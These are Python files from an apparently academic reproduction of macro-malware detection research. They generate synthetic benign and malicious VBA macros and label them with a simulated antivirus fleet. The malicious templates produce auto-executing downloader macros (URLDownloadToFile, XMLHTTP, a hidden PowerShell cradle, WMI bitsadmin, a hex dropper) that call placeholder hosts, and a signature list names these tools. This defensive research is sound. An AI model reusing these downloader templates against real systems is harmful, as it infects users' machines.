def data_fill_macro(rng: random.Random) -> str:
    """A large-bodied benign macro: dozens of literal cell assignments.

    Recorded macros and hand-built data-entry procedures routinely contain
    very long procedure bodies, which keeps body-size features from being a
    trivial obfuscation tell.
    """
    proc = names.procedure_name(rng)
    rows = rng.randint(25, 80)
    writer = CodeWriter()
    with writer.block(f"Sub {proc}()", "End Sub"):
        writer.line(f'Worksheets("{rng.choice(names.SHEET_NAMES)}").Activate')
        for row in range(2, rows + 2):
            kind = rng.random()
            if kind < 0.4:
                writer.line(
                    f'Cells({row}, 1).Value = "{rng.choice(names.NOUNS)} {row - 1}"'
                )
            elif kind < 0.8:
                writer.line(
                    f"Cells({row}, 2).Value = {rng.randint(1, 99_999) / 100}"
                )
            else:
                writer.line(
                    f'Cells({row}, 3).Formula = "=B{row}*{rng.randint(2, 9)}"'
                )
    return writer.render()


BENIGN_FAMILIES = BENIGN_FAMILIES + (
    ("excel", data_fill_macro),
)

_BLOCK_STARTERS = (
    "if ", "for ", "do ", "do\n", "while ", "with ", "sub ", "function ",
    "select ", "else", "elseif", "end ", "next", "loop", "wend", "private ",
    "public ", "dim ", "const ", "'",
)


def _is_joinable(line: str) -> bool:
    stripped = line.strip().lower()
    if not stripped or stripped.endswith("_"):
        return False
    return not any(stripped.startswith(word) for word in _BLOCK_STARTERS)


def compact_style(source: str, rng: random.Random, join_probability: float = 0.6) -> str:
    """Rewrite a module in colon-joined 'compact' style.

    VBA permits multiple statements per line separated by ``:``; recorded
    macros and terse hand-written modules use this heavily, widening the
    natural chars-per-line distribution of benign code.
    """
    lines = source.splitlines()
    output: list[str] = []
    for line in lines:
        joinable = (
            output
            and _is_joinable(line)
            and _is_joinable(output[-1])
            and len(output[-1]) + len(line.strip()) < 140
            and rng.random() < join_probability
        )
        if joinable:
            output[-1] = output[-1] + ": " + line.strip()
        else:
            output.append(line)
    return "\n".join(output) + ("\n" if source.endswith("\n") else "")


def summary_formulas_macro(rng: random.Random) -> str:
    """Benign reporting macro with long nested call arguments.

    ``WorksheetFunction.SumIfs(...)`` chains give benign code the same long
    parenthesized argument lists that encoded payloads have, keeping
    argument-length features from trivially separating the classes.
    """
    proc = names.procedure_name(rng)
    sheet = rng.choice(names.SHEET_NAMES)
    last = rng.randint(200, 900)
    writer = CodeWriter()
    with writer.block(f"Sub {proc}()", "End Sub"):
        writer.line("Dim region As String")
        writer.line(f'region = Range("B1").Value')
        for out_row, column in enumerate("CDE", start=2):
            writer.line(
                f'Cells({out_row}, 7).Value = WorksheetFunction.SumIfs('
                f'Worksheets("{sheet}").Range("{column}2:{column}{last}"), '
                f'Worksheets("{sheet}").Range("A2:A{last}"), region, '
                f'Worksheets("{sheet}").Range("B2:B{last}"), '
                f'">=" & Range("B2").Value)'
            )
        if rng.random() < 0.5:
            writer.line(
                'Cells(1, 7).Value = WorksheetFunction.CountIfs('
                f'Worksheets("{sheet}").Range("A2:A{last}"), "<>", '
                f'Worksheets("{sheet}").Range("F2:F{last}"), '
                f'"{rng.choice(names.NOUNS)}")'
            )
    return writer.render()


BENIGN_FAMILIES = BENIGN_FAMILIES + (
    ("excel", summary_formulas_macro),
    ("excel", summary_formulas_macro),
)


def number_format_macro(rng: random.Random) -> str:
    """Benign formatting macro full of short string literals.

    Format codes, range refs and delimiters give legitimate code plenty of
    2–4 character strings, so a collapsed mean string length is not by
    itself an obfuscation tell.
    """
    proc = names.procedure_name(rng)
    writer = CodeWriter()
    formats = ("0.00", "#,##0", "0%", "@", "d-mmm", "h:mm", "0.0E+00", "$#,##0")
    with writer.block(f"Sub {proc}()", "End Sub"):
        for column in rng.sample("ABCDEFGH", rng.randint(4, 8)):
            writer.line(
                f'Columns("{column}:{column}").NumberFormat = '
                f'"{rng.choice(formats)}"'
            )
        writer.line(f'Range("A1").Value = "ID"')
        writer.line(f'Range("B1").Value = "Qty"')
        writer.line(f'Range("C1").Value = "Amt"')
        if rng.random() < 0.5:
            writer.line('Cells(1, 9).Value = "-"')
            writer.line('Cells(2, 9).Value = "n/a"')
    return writer.render()


def import_paths_macro(rng: random.Random) -> str:
    """Benign import macro with Windows path strings (backslash-rich)."""
    proc = names.procedure_name(rng)
    share = rng.choice(("\\\\fileserver\\shared", "C:\\Data", "C:\\Users\\Public\\Documents", "D:\\Exports"))
    writer = CodeWriter()
    _maybe_comment(writer, rng)
    with writer.block(f"Sub {proc}()", "End Sub"):
        writer.line("Dim basePath As String")
        writer.line(f'basePath = "{share}\\{rng.choice(names.FILE_STEMS)}"')
        writer.line(
            'Workbooks.Open basePath & "\\" & Format(Date, "yyyy") & "\\" & '
            f'"{rng.choice(names.FILE_STEMS)}.xlsx"'
        )
        writer.line(
            f'ActiveWorkbook.SaveAs "{share}\\archive\\" & '
            'Format(Now, "yyyymmdd_hhmm") & ".xlsx"'
        )
    return writer.render()


BENIGN_FAMILIES = BENIGN_FAMILIES + (
    ("excel", number_format_macro),
    ("excel", import_paths_macro),
    ("word", import_paths_macro),
)
