"""Surface-style augmentation for generated macros.

Real-world VBA is stylistically heterogeneous: recorded macros, decade-old
copy-paste code, tab indentation, banner comments, compact one-liners.  This
module randomizes *token-preserving* style dimensions — indentation, blank
lines, comments, case of keywords — so that generic layout statistics carry
noise rather than class signal, the way they do in the paper's real corpus.

The transforms never touch code tokens: string literals, identifiers and
operators are unchanged, so the V features targeting obfuscation semantics
(V5–V12, V14, V15) are unaffected while layout-sensitive features (chars per
line, whitespace share, comment counts) gain benign variance.
"""

from __future__ import annotations

import random

_INDENT_UNITS = ("", "  ", "    ", "\t", "   ")

_BANNER_TEMPLATES = (
    "'====================================================\n"
    "'  {title}\n"
    "'  Last updated {month}/{year}\n"
    "'====================================================\n",
    "'---------------------------------------------\n"
    "' {title}\n"
    "'---------------------------------------------\n",
    "' {title}\n' Author: {author}\n'\n",
)

_RECORDED_HEADER = (
    "'\n"
    "' {name} Macro\n"
    "' Macro recorded {month}/{day}/{year} by {author}\n"
    "'\n"
    "'\n"
)

_AUTHORS = ("admin", "user", "jsmith", "mkim", "finance01", "Office User", "hr-team")
_TITLES = (
    "Module utilities", "Report helpers", "Data import routines",
    "Formatting helpers", "Monthly batch", "Shared functions",
)


def _reindent(source: str, rng: random.Random) -> str:
    """Replace the 4-space indent unit with a random unit (possibly none)."""
    unit = rng.choice(_INDENT_UNITS)
    if unit == "    ":
        return source
    lines = []
    for line in source.splitlines():
        stripped = line.lstrip(" ")
        depth = (len(line) - len(stripped)) // 4
        lines.append(unit * depth + stripped)
    return "\n".join(lines) + ("\n" if source.endswith("\n") else "")


def _blank_lines(source: str, rng: random.Random) -> str:
    """Insert blank lines between statements with random density."""
    probability = rng.choice((0.0, 0.0, 0.05, 0.15, 0.3))
    if probability == 0.0:
        return source
    lines = []
    for line in source.splitlines():
        lines.append(line)
        if line.strip() and rng.random() < probability:
            lines.append("")
    return "\n".join(lines) + ("\n" if source.endswith("\n") else "")


def _banner(source: str, rng: random.Random) -> str:
    template = rng.choice(_BANNER_TEMPLATES)
    return (
        template.format(
            title=rng.choice(_TITLES),
            author=rng.choice(_AUTHORS),
            month=rng.randint(1, 12),
            year=rng.randint(2003, 2017),
        )
        + source
    )


def _recorded_header(source: str, rng: random.Random) -> str:
    return (
        _RECORDED_HEADER.format(
            name=f"Macro{rng.randint(1, 30)}",
            author=rng.choice(_AUTHORS),
            month=rng.randint(1, 12),
            day=rng.randint(1, 28),
            year=rng.randint(2005, 2017),
        )
        + source
    )


def _keyword_case(source: str, rng: random.Random) -> str:
    """Lower-case a few structural keywords, as sloppy editors leave them."""
    if rng.random() < 0.8:
        return source
    replacements = rng.sample(
        [("End Sub", "end sub"), ("End If", "end if"), ("Then", "then")],
        k=rng.randint(1, 2),
    )
    for old, new in replacements:
        source = source.replace(old, new)
    return source


def apply_style(
    source: str,
    rng: random.Random,
    banner_probability: float = 0.2,
    recorded_probability: float = 0.15,
) -> str:
    """Apply a random surface style to a macro module."""
    styled = _reindent(source, rng)
    styled = _blank_lines(styled, rng)
    if rng.random() < recorded_probability:
        styled = _recorded_header(styled, rng)
    elif rng.random() < banner_probability:
        styled = _banner(styled, rng)
    styled = _keyword_case(styled, rng)
    return styled
