"""Synthetic corpus substrate: the paper's data-collection substitute.

Benign/malicious macro template families (:mod:`.benign`,
:mod:`.malicious`), document assembly (:mod:`.documents`) and the
population builder reproducing Tables II/III (:mod:`.builder`).
"""

from repro.corpus.benign import BENIGN_FAMILIES, generate_benign_macro
from repro.corpus.builder import (
    Corpus,
    CorpusBuilder,
    CorpusProfile,
    default_bench_profile,
    paper_profile,
)
from repro.corpus.documents import (
    SyntheticDocument,
    build_document_bytes,
    make_document,
)
from repro.corpus.malicious import MALICIOUS_FAMILIES, generate_malicious_macro

__all__ = [
    "BENIGN_FAMILIES",
    "Corpus",
    "CorpusBuilder",
    "CorpusProfile",
    "MALICIOUS_FAMILIES",
    "SyntheticDocument",
    "build_document_bytes",
    "default_bench_profile",
    "generate_benign_macro",
    "generate_malicious_macro",
    "make_document",
    "paper_profile",
]
