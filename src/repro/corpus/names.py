"""Identifier and content pools for the synthetic corpus generators.

Benign macros use *meaningful* names drawn from these pools (the paper's O1
feature set keys on exactly this difference: human-chosen identifiers have
lower entropy and less length variance than randomized ones).
"""

from __future__ import annotations

import random

VERBS = (
    "Get", "Set", "Update", "Build", "Create", "Load", "Save", "Export",
    "Import", "Format", "Clean", "Check", "Validate", "Process", "Apply",
    "Refresh", "Copy", "Merge", "Sort", "Filter", "Print", "Send", "Make",
    "Calc", "Sum", "Count", "Find", "Clear", "Init", "Prepare",
)

NOUNS = (
    "Report", "Invoice", "Sheet", "Range", "Cell", "Row", "Column", "Table",
    "Chart", "Data", "Record", "Budget", "Summary", "Header", "Footer",
    "Total", "Price", "Customer", "Order", "Item", "Product", "Sales",
    "Index", "Value", "Name", "Date", "Month", "Year", "File", "Folder",
    "Backup", "Email", "List", "Entry", "Balance", "Account", "Payroll",
)

VARIABLE_WORDS = (
    "count", "total", "index", "row", "col", "value", "name", "path",
    "result", "temp", "item", "sheet", "range", "cell", "target", "source",
    "output", "input", "buffer", "line", "text", "amount", "price", "rate",
    "start", "last", "first", "current", "next", "found", "flag", "limit",
    # Terse abbreviations real spreadsheet macros are full of — these have
    # no vowels, which keeps naive "readability" features honest.
    "rng", "ws", "wb", "cnt", "tbl", "qry", "src", "dst", "txt", "str",
    "num", "pwd", "cfg", "hdr", "ftr", "idx", "tmp", "pct", "qty", "chk",
)

SHEET_NAMES = (
    "Data", "Summary", "Report", "Input", "Output", "Budget", "Sales",
    "Inventory", "Q1", "Q2", "Q3", "Q4", "Raw", "Clean", "Archive",
)

COMMENT_PHRASES = (
    "Loop over all rows in the data range",
    "Update the summary totals",
    "Skip empty cells",
    "Format the header row",
    "Save a backup copy before changes",
    "Validate user input first",
    "Requires the Data sheet to be present",
    "TODO: handle merged cells",
    "Clear previous results",
    "Written by the finance team",
    "Do not modify below this line",
    "Apply the corporate number format",
)

EMAIL_SUBJECTS = (
    "Monthly report", "Invoice attached", "Budget update",
    "Weekly summary", "Action required", "Meeting notes",
)

FILE_STEMS = (
    "report", "invoice", "budget", "summary", "backup", "export",
    "data", "archive", "statement", "payroll", "inventory", "orders",
)

MALICIOUS_URL_HOSTS = (
    "update-cdn.example.net", "files.drop-zone.example", "dl.micro-soft-update.example",
    "static.invoice-view.example", "cdn.docs-preview.example", "get.flash-renew.example",
)

MALICIOUS_FILE_NAMES = (
    "svchost32.exe", "update.exe", "flashplayer.exe", "invoice_view.exe",
    "winupd.exe", "msoffice_fix.exe", "reader_dc.exe", "defender_rt.exe",
)


def procedure_name(rng: random.Random) -> str:
    """A plausible human-written procedure name, e.g. ``UpdateReportTotals``."""
    parts = [rng.choice(VERBS), rng.choice(NOUNS)]
    if rng.random() < 0.4:
        parts.append(rng.choice(NOUNS))
    return "".join(parts)


HUNGARIAN_PREFIXES = (
    "str", "lng", "int", "dbl", "rng", "ws", "obj", "bln", "cur", "var",
)


def variable_name(rng: random.Random) -> str:
    """A plausible variable name: ``rowCount``, ``total``, or ``strTmp``."""
    style = rng.random()
    if style < 0.2:
        # Hungarian notation, still common in office macros.
        return rng.choice(HUNGARIAN_PREFIXES) + rng.choice(
            VARIABLE_WORDS
        ).capitalize()
    base = rng.choice(VARIABLE_WORDS)
    if style < 0.55:
        return base + rng.choice(VARIABLE_WORDS).capitalize()
    return base


def file_name(rng: random.Random, extension: str) -> str:
    stem = rng.choice(FILE_STEMS)
    if rng.random() < 0.6:
        stem = f"{stem}_{rng.randint(2014, 2017)}"
    if rng.random() < 0.3:
        stem = f"{stem}_{rng.choice(('final', 'v2', 'draft', 'copy'))}"
    return f"{stem}.{extension}"


def malicious_url(rng: random.Random) -> str:
    host = rng.choice(MALICIOUS_URL_HOSTS)
    token = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(8))
    return f"http://{host}/{token}/{rng.choice(MALICIOUS_FILE_NAMES)}"


def drop_path(rng: random.Random) -> str:
    directory = rng.choice(("%TEMP%", "%APPDATA%", "C:\\Users\\Public", "%PROGRAMDATA%"))
    return f"{directory}\\{rng.choice(MALICIOUS_FILE_NAMES)}"
