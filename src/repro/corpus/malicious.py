"""Malicious VBA macro template families.

Five families covering the attack patterns the paper's malicious corpus
exhibits — overwhelmingly "Downloader"-style macros (Section IV.A notes the
small malicious file sizes mean the payload is fetched from a remote address,
not embedded):

* URLDownloadToFile + Shell (the classic API downloader),
* MSXML2.XMLHTTP + ADODB.Stream (scripting-object downloader),
* PowerShell download cradle,
* WMI process creation,
* embedded-payload dropper (hex blob written to disk; the rarer "Dropper").

Each uses an auto-exec entry point (``Document_Open`` / ``Workbook_Open`` /
``AutoOpen``), the trigger style Section III.A describes.
"""

from __future__ import annotations

import random

from repro.corpus import names
from repro.vba.writer import CodeWriter, quote_vba_string

AUTO_EXEC_BY_HOST = {
    "word": ("Document_Open", "AutoOpen"),
    "excel": ("Workbook_Open", "Auto_Open"),
}


def _entry_point(rng: random.Random, host: str) -> str:
    return rng.choice(AUTO_EXEC_BY_HOST[host])


def api_downloader_macro(rng: random.Random, host: str) -> str:
    url = names.malicious_url(rng)
    path = names.drop_path(rng)
    writer = CodeWriter()
    writer.line(
        'Private Declare Function URLDownloadToFile Lib "urlmon" '
        'Alias "URLDownloadToFileA" (ByVal pCaller As Long, '
        "ByVal szURL As String, ByVal szFileName As String, "
        "ByVal dwReserved As Long, ByVal lpfnCB As Long) As Long"
    )
    writer.line("")
    with writer.block(f"Sub {_entry_point(rng, host)}()", "End Sub"):
        writer.line("Dim dlUrl As String")
        writer.line("Dim dlPath As String")
        writer.line("On Error Resume Next")
        writer.line(f"dlUrl = {quote_vba_string(url)}")
        writer.line(f"dlPath = Environ({quote_vba_string('TEMP')}) & {quote_vba_string(chr(92) + path.split(chr(92))[-1])}")
        writer.line("URLDownloadToFile 0, dlUrl, dlPath, 0, 0")
        writer.line("Shell dlPath, 0")
    return writer.render()


def xmlhttp_downloader_macro(rng: random.Random, host: str) -> str:
    url = names.malicious_url(rng)
    file_name = rng.choice(names.MALICIOUS_FILE_NAMES)
    writer = CodeWriter()
    with writer.block(f"Sub {_entry_point(rng, host)}()", "End Sub"):
        writer.line("Dim http As Object")
        writer.line("Dim stream As Object")
        writer.line("Dim target As String")
        writer.line("On Error Resume Next")
        writer.line('Set http = CreateObject("MSXML2.XMLHTTP")')
        writer.line('Set stream = CreateObject("ADODB.Stream")')
        writer.line(f'target = Environ("APPDATA") & "\\{file_name}"')
        writer.line(f'http.Open "GET", {quote_vba_string(url)}, False')
        writer.line("http.Send")
        with writer.block("If http.Status = 200 Then", "End If"):
            writer.line("stream.Open")
            writer.line("stream.Type = 1")
            writer.line("stream.Write http.responseBody")
            writer.line("stream.SaveToFile target, 2")
            writer.line("stream.Close")
            writer.line('CreateObject("WScript.Shell").Run target, 0, False')
    return writer.render()


def powershell_macro(rng: random.Random, host: str) -> str:
    url = names.malicious_url(rng)
    file_name = rng.choice(names.MALICIOUS_FILE_NAMES)
    cradle = (
        "powershell -w hidden -nop -c "
        f"\"(New-Object Net.WebClient).DownloadFile('{url}', "
        f"'$env:TEMP\\{file_name}'); Start-Process '$env:TEMP\\{file_name}'\""
    )
    writer = CodeWriter()
    with writer.block(f"Sub {_entry_point(rng, host)}()", "End Sub"):
        writer.line("Dim cmd As String")
        writer.line("On Error Resume Next")
        writer.line(f"cmd = {quote_vba_string(cradle)}")
        if rng.random() < 0.5:
            writer.line("Shell cmd, 0")
        else:
            writer.line('CreateObject("WScript.Shell").Run cmd, 0, False')
    return writer.render()


def wmi_macro(rng: random.Random, host: str) -> str:
    url = names.malicious_url(rng)
    file_name = rng.choice(names.MALICIOUS_FILE_NAMES)
    writer = CodeWriter()
    with writer.block(f"Sub {_entry_point(rng, host)}()", "End Sub"):
        writer.line("Dim wmi As Object")
        writer.line("Dim proc As Object")
        writer.line("On Error Resume Next")
        writer.line('Set wmi = GetObject("winmgmts:\\\\.\\root\\cimv2")')
        writer.line('Set proc = wmi.Get("Win32_Process")')
        writer.line(
            "proc.Create "
            + quote_vba_string(
                f'cmd /c bitsadmin /transfer upd /download {url} '
                f"%TEMP%\\{file_name} & start %TEMP%\\{file_name}"
            )
            + ", Null, Null, 0"
        )
    return writer.render()


def dropper_macro(rng: random.Random, host: str) -> str:
    """Embedded payload written to disk: the paper's rarer "Dropper" class."""
    file_name = rng.choice(names.MALICIOUS_FILE_NAMES)
    # A fake PE payload as hex: 'MZ' header plus random bytes.
    payload = bytes([0x4D, 0x5A]) + bytes(
        rng.getrandbits(8) for _ in range(rng.randint(64, 256))
    )
    hex_blob = payload.hex().upper()
    writer = CodeWriter()
    with writer.block(f"Sub {_entry_point(rng, host)}()", "End Sub"):
        writer.line("Dim blob As String")
        writer.line("Dim out As Integer")
        writer.line("Dim target As String")
        writer.line("Dim i As Long")
        writer.line("On Error Resume Next")
        writer.line(f'blob = "{hex_blob[:64]}"')
        for start in range(64, len(hex_blob), 64):
            writer.line(f'blob = blob & "{hex_blob[start:start + 64]}"')
        writer.line(f'target = Environ("TEMP") & "\\{file_name}"')
        writer.line("out = FreeFile")
        writer.line("Open target For Binary As #out")
        with writer.block("For i = 1 To Len(blob) Step 2", "Next i"):
            writer.line('Put #out, , CByte("&H" & Mid(blob, i, 2))')
        writer.line("Close #out")
        writer.line("Shell target, 0")
    return writer.render()


MALICIOUS_FAMILIES = (
    api_downloader_macro,
    xmlhttp_downloader_macro,
    powershell_macro,
    wmi_macro,
    dropper_macro,
)

#: Weights reflecting the paper's observation: downloaders dominate.
_FAMILY_WEIGHTS = (0.3, 0.3, 0.2, 0.12, 0.08)


def generate_malicious_macro(rng: random.Random, host: str) -> str:
    """Draw one malicious macro for the given host application."""
    family = rng.choices(MALICIOUS_FAMILIES, weights=_FAMILY_WEIGHTS, k=1)[0]
    return family(rng, host)
