"""Multi-vendor AV simulation: the VirusTotal substrate for dataset labeling."""

from repro.avsim.signatures import MASTER_SIGNATURES, Signature, match_signatures
from repro.avsim.vendor import AVVendor, build_vendor_fleet
from repro.avsim.virustotal import (
    BENIGN_THRESHOLD,
    MALICIOUS_THRESHOLD,
    LabelingOutcome,
    ScanReport,
    Verdict,
    VirusTotalSim,
    label_documents,
)

__all__ = [
    "AVVendor",
    "BENIGN_THRESHOLD",
    "LabelingOutcome",
    "MALICIOUS_THRESHOLD",
    "MASTER_SIGNATURES",
    "ScanReport",
    "Signature",
    "Verdict",
    "VirusTotalSim",
    "build_vendor_fleet",
    "label_documents",
    "match_signatures",
]
