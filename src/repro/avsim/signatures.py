"""Signature corpus for the simulated anti-virus vendors.

Real signature-based AV keys on byte patterns; for macro malware the
effective signatures are suspicious keywords, API names, auto-exec triggers
and URL/path shapes.  Obfuscation (O2/O3) removes exactly these plaintext
markers — the property the paper's Section III discusses and the labeling
experiment depends on.
"""

from __future__ import annotations

import re
from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Signature:
    """One detection rule: a name plus a compiled pattern and a weight."""

    name: str
    pattern: re.Pattern
    weight: int = 1


def _sig(name: str, pattern: str, weight: int = 1) -> Signature:
    return Signature(name, re.compile(pattern, re.IGNORECASE), weight)


#: The master signature set; every vendor uses a subset.
MASTER_SIGNATURES: tuple[Signature, ...] = (
    # Download / execute APIs.
    _sig("api.urlmon", r"URLDownloadToFile"),
    _sig("api.shell", r"\bShell\b\s*[( ]", 1),
    _sig("api.wscript", r"WScript\.Shell"),
    _sig("api.xmlhttp", r"MSXML2\.XMLHTTP|Microsoft\.XMLHTTP"),
    _sig("api.adodb", r"ADODB\.Stream"),
    _sig("api.savetofile", r"\bSaveToFile\b"),
    _sig("api.wmi", r"winmgmts:|Win32_Process"),
    _sig("api.createobject_shell", r'CreateObject\s*\(\s*"WScript'),
    # Command lines.
    _sig("cmd.powershell", r"powershell", 2),
    _sig("cmd.hidden", r"-w\s+hidden|-windowstyle\s+hidden"),
    _sig("cmd.bitsadmin", r"bitsadmin\s+/transfer"),
    _sig("cmd.cmdexe", r"cmd\s*/c"),
    _sig("cmd.webclient", r"Net\.WebClient|DownloadFile"),
    # Payload shapes.
    _sig("url.exe", r"https?://[^\"']+\.exe", 2),
    _sig("path.exe_drop", r"(TEMP|APPDATA|PROGRAMDATA)[^\"']*\.exe"),
    _sig("blob.mz_hex", r"4D5A[0-9A-F]{40,}", 2),
    # Auto-exec triggers combined with suspicious content score higher at
    # the vendor layer; standalone they are weak indicators.
    _sig("trigger.autoopen", r"\b(Auto_?Open|Document_Open|Workbook_Open)\b", 0),
    # Obfuscation-artifact heuristics: real engines flag the *shape* of
    # encoded payloads even when plaintext markers are gone.  This is what
    # keeps heavily obfuscated campaign samples detectable by a subset of
    # vendors (and what pushes them into the paper's manual-inspection band).
    _sig("obf.chr_chain", r"(Chr\(\d+\)\s*&\s*){4,}", 2),
    _sig("obf.numeric_array", r"Array\(\s*\d+(\s*,\s*\d+){20,}", 2),
    _sig("obf.base64_blob", r'"[A-Za-z0-9+/]{48,}={0,2}"', 1),
    _sig("obf.hex_blob", r'"[0-9A-Fa-f]{64,}"', 1),
    _sig("obf.replace_decoder", r'Replace\("[^"]*",\s*"[^"]*",\s*"[^"]*"\)', 1),
    _sig("api.environ", r"\bEnviron\b", 1),
    _sig("api.createobject", r"\bCreateObject\b", 1),
)

#: Signatures considered *strong* (weight >= 2) — used by heuristic vendors.
STRONG_SIGNATURE_NAMES = frozenset(
    sig.name for sig in MASTER_SIGNATURES if sig.weight >= 2
)


def match_signatures(
    text: str, signatures: tuple[Signature, ...] = MASTER_SIGNATURES
) -> list[Signature]:
    """Return the signatures whose pattern occurs in the macro text."""
    return [sig for sig in signatures if sig.pattern.search(text)]
