"""VirusTotal-style aggregate scanning and the paper's labeling rule.

Section IV.A: a sample is labeled *malicious* when more than 25 of ~60
vendors flag it, *benign* when at most 2 do, and everything in between goes
to manual inspection by security researchers.  :class:`VirusTotalSim`
reproduces the aggregation; :func:`label_documents` reproduces the labeling
pipeline (with ground truth standing in for the human analysts).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field

from repro.avsim.vendor import AVVendor, build_vendor_fleet

MALICIOUS_THRESHOLD = 25  # strictly more than this many detections
BENIGN_THRESHOLD = 2  # at most this many detections


class Verdict(enum.Enum):
    MALICIOUS = "malicious"
    BENIGN = "benign"
    MANUAL_INSPECTION = "manual"


@dataclass(slots=True)
class ScanReport:
    """Aggregate result for one document."""

    detections: int
    total_vendors: int
    flagged_by: list[str] = field(default_factory=list)

    @property
    def verdict(self) -> Verdict:
        if self.detections > MALICIOUS_THRESHOLD:
            return Verdict.MALICIOUS
        if self.detections <= BENIGN_THRESHOLD:
            return Verdict.BENIGN
        return Verdict.MANUAL_INSPECTION


class VirusTotalSim:
    """Scan macro text sets against the whole vendor fleet.

    Besides signature/heuristic scanning, vendors share threat-intel hash
    feeds: hashes registered via :meth:`blacklist_macro` are recognized by a
    deterministic ~70% subset of the fleet — modeling how a campaign macro
    reused across many documents (Section IV.B) becomes universally known
    once any one sample is analyzed.
    """

    def __init__(self, vendors: list[AVVendor] | None = None) -> None:
        self.vendors = vendors if vendors is not None else build_vendor_fleet()
        if not self.vendors:
            raise ValueError("need at least one vendor")
        self._hash_feed: set[str] = set()

    @staticmethod
    def macro_hash(macro_text: str) -> str:
        import hashlib

        return hashlib.sha256(macro_text.encode("utf-8", "replace")).hexdigest()

    def blacklist_macro(self, macro_text: str) -> None:
        """Add a macro's hash to the shared threat-intel feed."""
        self._hash_feed.add(self.macro_hash(macro_text))

    def _vendor_subscribes(self, vendor: AVVendor, digest: str) -> bool:
        """Deterministic per-(vendor, hash) feed membership, ≈70% uptake."""
        import hashlib

        mix = hashlib.sha256((vendor.name + digest).encode()).digest()
        return mix[0] < 179  # 179/256 ≈ 0.7

    def scan(self, macro_texts: list[str]) -> ScanReport:
        digests = [self.macro_hash(text) for text in macro_texts]
        blacklisted = [d for d in digests if d in self._hash_feed]
        flagged = []
        for vendor in self.vendors:
            hit = vendor.scan_document(macro_texts) or any(
                self._vendor_subscribes(vendor, digest) for digest in blacklisted
            )
            if hit:
                flagged.append(vendor.name)
        return ScanReport(
            detections=len(flagged),
            total_vendors=len(self.vendors),
            flagged_by=flagged,
        )


@dataclass(slots=True)
class LabelingOutcome:
    """How the 25/2 thresholds sorted a document set."""

    labeled_malicious: int = 0
    labeled_benign: int = 0
    sent_to_manual: int = 0
    #: Documents whose threshold label disagreed with ground truth.
    mislabeled: int = 0


def label_documents(
    documents,
    scanner: VirusTotalSim | None = None,
) -> LabelingOutcome:
    """Run the paper's labeling pipeline over synthetic documents.

    Ground truth (``document.is_malicious``) plays the role of the three
    security researchers who manually inspected the in-between band.
    """
    scanner = scanner or VirusTotalSim()
    outcome = LabelingOutcome()
    for document in documents:
        report = scanner.scan(document.macro_sources)
        verdict = report.verdict
        if verdict is Verdict.MANUAL_INSPECTION:
            outcome.sent_to_manual += 1
            verdict = (
                Verdict.MALICIOUS if document.is_malicious else Verdict.BENIGN
            )
        if verdict is Verdict.MALICIOUS:
            outcome.labeled_malicious += 1
            if not document.is_malicious:
                outcome.mislabeled += 1
        else:
            outcome.labeled_benign += 1
            if document.is_malicious:
                outcome.mislabeled += 1
    return outcome
