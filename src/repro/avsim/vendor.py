"""Simulated anti-virus vendors.

Each vendor owns a deterministic subset of the master signature set plus a
detection threshold and a small heuristic bonus for auto-exec triggers, so
vendors disagree on borderline samples exactly the way VirusTotal's ~60
engines disagree — which is why the paper needs the 25-vendor / 2-vendor
labeling thresholds rather than trusting any single engine.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from repro.avsim.signatures import MASTER_SIGNATURES, Signature

_VENDOR_NAME_PARTS_A = (
    "Aegis", "Bastion", "Citadel", "Delta", "Ensign", "Fortis", "Guard",
    "Helios", "Iron", "Krypt", "Lumen", "Merid", "Nova", "Orbit", "Praet",
    "Quart", "Rampart", "Sentin", "Titan", "Umbra", "Vanta", "Ward",
)
_VENDOR_NAME_PARTS_B = (
    "Scan", "Shield", "Defender", "AV", "Secure", "Labs", "Total",
    "Protect", "Watch", "Gate",
)


@dataclass(frozen=True)
class AVVendor:
    """One simulated engine."""

    name: str
    signatures: tuple[Signature, ...]
    threshold: int  # minimum weighted score to flag
    heuristic_autoexec_bonus: int  # extra score when an auto-exec trigger fires

    def scan(self, macro_text: str) -> bool:
        """Return True when the vendor flags the macro text as malicious."""
        score = 0
        autoexec_seen = False
        for signature in self.signatures:
            if signature.pattern.search(macro_text):
                if signature.name.startswith("trigger."):
                    autoexec_seen = True
                else:
                    score += signature.weight
        if autoexec_seen and score > 0:
            score += self.heuristic_autoexec_bonus
        return score >= self.threshold

    def scan_document(self, macro_texts: list[str]) -> bool:
        """A document is flagged if any of its macros is."""
        return any(self.scan(text) for text in macro_texts)


def build_vendor_fleet(count: int = 60, seed: int = 60) -> list[AVVendor]:
    """Build a deterministic fleet of ``count`` distinct vendors."""
    rng = random.Random(seed)
    vendors: list[AVVendor] = []
    used_names: set[str] = set()
    while len(vendors) < count:
        name = rng.choice(_VENDOR_NAME_PARTS_A) + rng.choice(_VENDOR_NAME_PARTS_B)
        if name in used_names:
            name = f"{name}{len(vendors)}"
        used_names.add(name)
        # Vendors carry 60–95% of the master set, so coverage varies.
        subset_size = rng.randint(
            int(len(MASTER_SIGNATURES) * 0.6), len(MASTER_SIGNATURES)
        )
        signatures = tuple(rng.sample(MASTER_SIGNATURES, subset_size))
        vendors.append(
            AVVendor(
                name=name,
                signatures=signatures,
                threshold=rng.choice((2, 2, 3, 3, 4)),
                heuristic_autoexec_bonus=rng.choice((0, 1, 1)),
            )
        )
    return vendors
