"""Sliding-window telemetry: time-bucketed views over a live registry.

The cumulative :class:`~repro.obs.metrics.MetricsRegistry` answers "what
happened this run"; a service taking unbounded traffic needs "what is
happening *now*".  A :class:`SlidingWindow` derives that without touching
the hot path at all: it keeps a small ring of **cumulative snapshots**
(``registry.to_dict()`` stamped with a monotonic clock, one per time
bucket) and computes any window aggregate as *newest minus the snapshot
just outside the window*.  Counters and histogram bucket counts subtract
exactly — they are monotone sums — so sliding p50/p95, throughput, and
quarantine-rate over the last N seconds fall out of plain dict
arithmetic:

* the instruments themselves are untouched: no per-observation cost, no
  second write path, and the :data:`~repro.obs.metrics.NULL_REGISTRY`
  stays free (``tick`` on a disabled registry is one attribute check);
* snapshots are taken at most once per bucket (``tick`` is time-gated
  internally), so a million-document stream pays ``window_s/bucket_s``
  snapshot costs per window, not per document;
* the ring holds ``buckets + 1`` snapshots — O(1) memory on unbounded
  feeds, same spirit as the streaming pool's admission window.

``engine.stream()`` / ``run_batch(jobs=N)`` tick an attached window from
